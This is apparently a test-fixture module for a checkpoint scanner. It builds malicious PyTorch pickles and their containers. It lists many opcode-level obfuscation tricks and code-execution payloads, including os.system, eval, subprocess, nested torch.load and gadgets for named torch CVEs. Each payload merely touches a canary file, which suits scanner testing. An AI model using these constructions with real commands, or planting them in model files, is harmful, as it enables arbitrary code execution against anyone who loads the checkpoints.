"""Makers of hostile checkpoints: pickles assembled opcode by opcode, and their containers."""

from __future__ import annotations

import io
import json
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

MAGIC = 0x1950A86A20F9469CFC6C
FOUR_FLOATS = struct.pack("<4f", 1, 2, 3, 4)


class Raw(bytes):
    """Opcodes that :func:`dump` takes unchanged."""


class Persistent(tuple[Any, ...]):
    """A persistent id."""


def dump(value: Any) -> Raw:
    """Returns the opcodes that make a value, without protocol header, memo and STOP."""
    if isinstance(value, Raw):
        return value
    if isinstance(value, Persistent):
        return Raw(dump(tuple(value)) + b"Q")
    if isinstance(value, tuple):
        return Raw(b"(" + b"".join(map(dump, value)) + b"t")
    if isinstance(value, list):
        return Raw(b"](" + b"".join(map(dump, value)) + b"e")
    if isinstance(value, dict):
        return Raw(b"}(" + b"".join(dump(k) + dump(v) for k, v in value.items()) + b"u")
    if isinstance(value, str):
        data = value.encode("utf-8", "surrogatepass")
        return Raw(b"X" + struct.pack("<I", len(data)) + data)
    return Raw(pickle.dumps(value, 2)[2:-1])


def name(path: str) -> Raw:
    module, _, attribute = path.rpartition(".")
    return Raw(f"c{module}\n{attribute}\n".encode())


def call(path: str, *args: Any) -> Raw:
    return Raw(name(path) + dump(args) + b"R")


def storage(key: Any = "0", numel: Any = 4, kind: str = "torch.FloatStorage", *view: Any) -> Persistent:
    return Persistent(("storage", name(kind), key, "cpu", numel, *view))


def tensor(shape: Any = (4,), strides: Any = (1,), offset: Any = 0, store: Any = None) -> Raw:
    hooks = call("collections.OrderedDict")
    return call(
        "torch._utils._rebuild_tensor_v2", storage() if store is None else store, offset, shape, strides, False, hooks
    )


def memoized(index: int, value: Any) -> Raw:
    return Raw(dump(value) + b"r" + struct.pack("<I", index))


def again(index: int) -> Raw:
    return Raw(b"j" + struct.pack("<I", index))


def stream(value: Any, protocol: int = 2) -> bytes:
    return (b"\x80" + bytes([protocol]) if protocol >= 2 else b"") + dump(value) + b"."


def shared(levels: int, width: int = 2, kind: str = "t") -> Raw:
    """Returns a tree of ``width ** levels`` leaves that consists of only ``levels`` objects."""
    made = memoized(1000, (1,) if kind == "t" else [1])
    for level in range(levels):
        parts = (again(1000 + level) for _ in range(width))
        opened = b"(" if kind == "t" else b"]("
        made = Raw(
            made
            + b"0"
            + opened
            + b"".join(parts)
            + (b"t" if kind == "t" else b"e")
            + b"r"
            + struct.pack("<I", 1001 + level)
        )
    return made


# ------------------------------------------------------------------------------------------------------- containers


def zip_bytes(data: bytes, stored: dict[str, bytes] | None = None, compress: bool = False, root: str = "archive") -> bytes:
    records = {f"{root}/data.pkl": data, f"{root}/byteorder": b"little"}
    records |= {f"{root}/data/{key}": octets for key, octets in ({"0": FOUR_FLOATS} if stored is None else stored).items()}
    return zip_of(records.items(), compress)


def zip_of(records: Iterable[tuple[str, bytes]], compress: bool = False) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as archive:
        for path, octets in records:
            archive.writestr(path, octets)
    return target.getvalue()


def legacy_bytes(
    data: bytes, keys: Any = ("0",), stored: bytes = struct.pack("<q", 4) + FOUR_FLOATS, before: bytes = b""
) -> bytes:
    """``before``: opcodes at the start of each pickle around the data; they leave nothing on the stack."""
    system = {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}
    first, *others, last = (b"\x80\2" + before + dump(v) + b"." for v in (MAGIC, 1001, system, list(keys)))
    if len(first) > 64:  # the magic number must be within the first 64 bytes
        first = pickle.dumps(MAGIC, 2)
    return b"".join([first, *others, data, last, stored])


def tar_bytes(data: bytes, views: Any = (), geometry: tuple[int, ...] = (1, 4, 1, 0)) -> bytes:
    """Returns the format of torch 0.1: one storage of four floats, one tensor of this rank, size, stride and offset."""
    storages = [pickle.dumps(1, 2), stream(("0", "cpu", name("torch.FloatStorage"))), struct.pack("<q", 4), FOUR_FLOATS]
    rank, *numbers = geometry
    tensors = [
        pickle.dumps(1, 2),
        stream(("t", "0", name("torch.FloatTensor"))),
        struct.pack(f"<i4x{len(numbers)}q", rank, *numbers),
    ]
    members = {
        "sys_info": pickle.dumps({"little_endian": True}, 2),
        "pickle": data,
        "tensors": b"".join(tensors),
        "storages": b"".join([*storages, stream(list(views))]),
    }
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w") as archive:
        for path, octets in members.items():
            member = tarfile.TarInfo(path)
            member.size = len(octets)
            archive.addfile(member, io.BytesIO(octets))
    return target.getvalue()


def _object(path: str, state: Any) -> Raw:
    """Returns an object that is made without arguments and gets this state."""
    return Raw(name(path) + dump(()) + b"\x81" + dump(state) + b"b")


def dcp_files(beside: Any = None) -> list[tuple[str, bytes]]:
    """Returns the names and bytes of a folder of torch.distributed.checkpoint, its metadata last: a tensor of four floats
    in two pieces, another one of two, and an object. ``beside``: what the metadata hold too."""
    files, data = list[tuple[str, bytes]](), b""
    pieces = [("w", (0,), (2,)), ("w", (2,), (2,)), ("v", (0, 0), (1, 2))]
    metadata: dict[str, Any] = {}
    places = b""
    for key, offsets, sizes in pieces:
        strides = (1,) if len(sizes) == 1 else (2, 1)
        item = zip_bytes(stream(tensor(sizes, strides, 0, storage("0", 2))), {"0": FOUR_FLOATS[:8]})
        metadata.setdefault(key, []).append((offsets, sizes))
        places += dump(_object("a.MetadataIndex", {"fqn": key, "offset": call("torch.Size", offsets), "index": 0}))
        info = {"relative_path": "__0_0.distcp", "offset": len(data), "length": len(item)}
        places += dump(_object("a._StorageInfo", info))
        data += item
    files.append(("__0_0.distcp", data))
    told: dict[str, Any] = {"step": _object("a.BytesStorageMetadata", {})}
    for key, boxes in metadata.items():
        chunks = [
            _object("a.ChunkStorageMetadata", {"offsets": call("torch.Size", at), "sizes": call("torch.Size", sizes)})
            for at, sizes in boxes
        ]
        properties = _object("a.TensorProperties", (name("torch.float32"), None, False, None, False))
        size = call("torch.Size", (4,) if key == "w" else (1, 2))
        told[key] = _object("a.TensorStorageMetadata", {"properties": properties, "size": size, "chunks": chunks})
    state = {
        "state_dict_metadata": told,
        "planner_data": {"w": ("model", "w"), "v": ("model", "v"), "step": ("step",)},
        "storage_data": Raw(b"}(" + places + b"u"),
        "storage_meta": beside,
    }
    files.append((".metadata", stream(_object("a.Metadata", state))))
    return files


def model_states(stage: int) -> bytes:
    """Returns the pickle of the model in a checkpoint of DeepSpeed with one rank, which :func:`optim_states` belongs to."""
    empty = tensor((0,), (1,)) if stage == 3 else tensor((2,), (1,))
    state = {
        "module": {"w": empty, "v": empty, "t": empty, "b": tensor((1,), (1,), 3), "f": empty},
        "buffer_names": ["b"],
        "param_shapes": [{"w": call("torch.Size", (2,)), "v": call("torch.Size", (1, 2))}],
        "shared_params": {"t": "w"},
        "frozen_param_shapes": {"f": call("torch.Size", (2,))},
        "frozen_param_fragments": {"f": tensor((2,), (1,), 1)},
        "global_steps": 3,
        "dp_world_size": 1,
    }
    return stream(state)


def optim_states(stage: int) -> bytes:
    """Returns the pickle of the optimizer in a checkpoint of DeepSpeed: four floats."""
    groups = {"fp32_flat_groups" if stage == 3 else "single_partition_of_fp32_groups": [tensor()]}
    return stream({"optimizer_state_dict": {"zero_stage": stage, "partition_count": 1, **groups}})


def rank_file(rank: int) -> bytes:
    """Returns the pickle of one of two ranks' state dicts, with a distributed tensor of eight floats."""
    layout = _object("a._MeshLayout", {"axes": (_object("a._FlatLayout", {"shape": (2,), "stride": (1,)}),)})
    mesh = _object("a.DeviceMesh", {"_layout": layout, "_mesh_dim_names": ("dp",), "_coordinate_on_dim": (rank,)})
    meta = Raw(name("a.TensorMeta") + dump((call("torch.Size", (8,)), (1,), name("torch.float32"))) + b"\x81")
    spec = {"mesh": mesh, "placements": (_object("a.Shard", {"dim": 0}),), "tensor_meta": meta}
    state = (None, {"_local_tensor": tensor(), "_spec": _object("a.DTensorSpec", spec)})
    whole = call(
        "torch._tensor._rebuild_from_type_v2",
        name("torch._utils._rebuild_wrapper_subclass"),
        name("torch.distributed.tensor.DTensor"),
        (name("torch.distributed.tensor.DTensor"),),
        state,
    )
    return stream({"w": whole, "v": tensor((2,), (1,))})


def nemo_bytes(members: dict[str, bytes]) -> bytes:
    """Returns a tar archive with these members below ``./``, with extended headers as Python writes them."""
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for path, octets in members.items():
            member = tarfile.TarInfo(f"./{path}")
            member.size, member.mtime = len(octets), 0.5
            archive.addfile(member, io.BytesIO(octets))
    return target.getvalue()


def safetensors_bytes(header: Any, data: bytes = b"\0" * 16, length: int | None = None) -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + data


def f32(begin: int, end: int, shape: Any = None) -> dict[str, Any]:
    return {"dtype": "F32", "shape": [(end - begin) // 4] if shape is None else shape, "data_offsets": [begin, end]}


Container = Callable[[bytes], bytes]
CONTAINERS: dict[str, tuple[Container, Raw]] = {
    "zip": (zip_bytes, tensor()),
    "legacy": (legacy_bytes, tensor()),
    "tar": (tar_bytes, Raw(dump("t") + b"Q")),
}


# ---------------------------------------------------------------------------------------------------------- pickles

WAYS: dict[str, Callable[[str, tuple[Any, ...]], bytes]] = {
    "reduce": lambda path, args: call(path, *args),
    "stack_global": lambda path, args: (
        dump(path.rpartition(".")[0]) + dump(path.rpartition(".")[2]) + b"\x93" + dump(args) + b"R"
    ),
    "inst": lambda path, args: b"(" + b"".join(map(dump, args)) + b"i" + name(path)[1:],
    "obj": lambda path, args: b"(" + name(path) + b"".join(map(dump, args)) + b"o",
    "newobj": lambda path, args: name(path) + dump(args) + b"\x81",
    "newobj_ex": lambda path, args: name(path) + dump(args) + b"}\x92",
    "build_class": lambda path, args: name(path) + dump({"__setstate__": call(path, *args)}) + b"b",
    "build_object": lambda path, args: call("collections.OrderedDict") + dump({"x": call(path, *args)}) + b"b",
    "newobj of a class": lambda path, args: (
        name("builtins.bytes")
        + dump((Raw(name("builtins.map") + dump((name(path), *([a] for a in args))) + b"\x81"),))
        + b"\x81"
    ),
    "ext1": lambda path, args: b"\x82\x01" + dump(args) + b"R",
    "ext2": lambda path, args: b"\x83\x01\x01" + dump(args) + b"R",
    "ext4": lambda path, args: b"\x84\x01\x01\x01\x01" + dump(args) + b"R",
    "persistent id": lambda path, args: dump(Persistent((call(path, *args), 1))),
    "ordered dictionary": lambda path, args: call("collections.OrderedDict", [("k", call(path, *args))]),
    "argument of a tensor": lambda path, args: call("torch._utils._rebuild_parameter", 5, True, Raw(call(path, *args))),
    "partial": lambda path, args: call("functools.partial", name(path), *args) + b")R",
    "methodcaller": lambda path, args: call("operator.methodcaller", "__call__", *args) + dump((name(path),)) + b"R",
    "replaced in the memo": lambda path, args: (
        memoized(9, name("collections.OrderedDict")) + b"0" + memoized(9, name(path)) + b"0" + again(9) + dump(args) + b"R"
    ),
    "duplicated": lambda path, args: name(path) + b"2" + dump(args) + b"R0" + dump(args) + b"R",
    "in a frame that lies": lambda path, args: b"\x95" + b"\xff" * 8 + call(path, *args),
    "behind another protocol": lambda path, args: b"\x80\5" + call(path, *args) + b"\x80\0",
    "memo": lambda path, args: memoized(7, name(path)) + b"0" + again(7) + dump(args) + b"R",
    "dict_key": lambda path, args: b"}" + call(path, *args) + b"K\x01s",
}


def payloads(canary: Path) -> dict[str, tuple[str, tuple[Any, ...]]]:
    """Returns calls that make the file ``canary`` when they are executed."""
    shell, code = f"touch '{canary}'", f"open({str(canary)!r}, 'w').close()"
    nested = canary.with_name("nested.pth")
    older = canary.with_name("older.pth")
    data = stream({"x": call("os.system", shell), "w": tensor()})
    nested.write_bytes(zip_bytes(data))
    older.write_bytes(legacy_bytes(data))
    return {
        "os.system": ("os.system", (shell,)),
        "posix.system": ("posix.system", (shell,)),
        "eval": ("builtins.eval", (code,)),
        "exec": ("__builtin__.exec", (code,)),
        "popen": ("subprocess.Popen", (["touch", str(canary)],)),
        "runpy": ("runpy._run_code", (code, {})),
        "open": ("io.open", (str(canary), "w")),
        "getattr": (
            "builtins.list",
            (call("builtins.map", call("builtins.getattr", call("builtins.__import__", "os"), "system"), [shell]),),
        ),
        "torch.load": (
            "torch.serialization._legacy_load",
            (call("io.open", str(older), "rb"), None, call("builtins.__import__", "pickle")),
        ),
        "spawnv": ("multiprocessing.util.spawnv_passfds", (b"/usr/bin/touch", [b"touch", str(canary).encode()], [])),
        "collect_env": ("torch.utils.collect_env.run", (shell,)),
        "runstring": ("numpy.testing._private.utils.runstring", (code, {})),
        "read_pickle": ("pandas.read_pickle", (str(nested),)),
        "read_csv": ("pandas.read_csv", ("http://localhost:1/x",)),
        "jit annotation, CVE-2022-45907": ("torch.jit.annotations.parse_type_line", (f"# type: ({code}) -> int", None, 0)),
        "jit.load": ("torch.jit.load", (str(nested),)),
        "weights only, CVE-2025-32434": ("torch.serialization.load", (str(nested), None, None, True)),
        "rpc, CVE-2024-5480": (
            "torch.distributed.rpc.internal._run_function",
            (call("torch.distributed.rpc.internal.PythonUDF", name("os.system"), (shell,), {}),),
        ),
        "remote module, CVE-2024-48063": (
            "torch.distributed.nn.api.remote_module._recursive_script_module_receiver",
            (call("os.system", shell),),
        ),
        "import": ("hostile_module.anything", ()),
        "dotted": ("torch._utils._rebuild_tensor_v2.__globals__", (code,)),
    }


BLUNT_WAYS = ("newobj", "newobj_ex", "ext1", "ext2", "ext4", "in a frame that lies")
"""Ways that pickle itself refuses, for a function or always; extension codes run nothing until one is registered."""
BLUNT_PAYLOADS = {
    "read_csv": "fetches, and makes no file",
    "read_pickle": "needs pandas",
    "jit annotation, CVE-2022-45907": "is mended in torch",
    "jit.load": "is mended in torch",
    "weights only, CVE-2025-32434": "is mended in torch",
    "import": "imports, and makes no file",
    "dotted": "is not a function",
}
"""Payloads that make no canary even when executed, and the reason."""
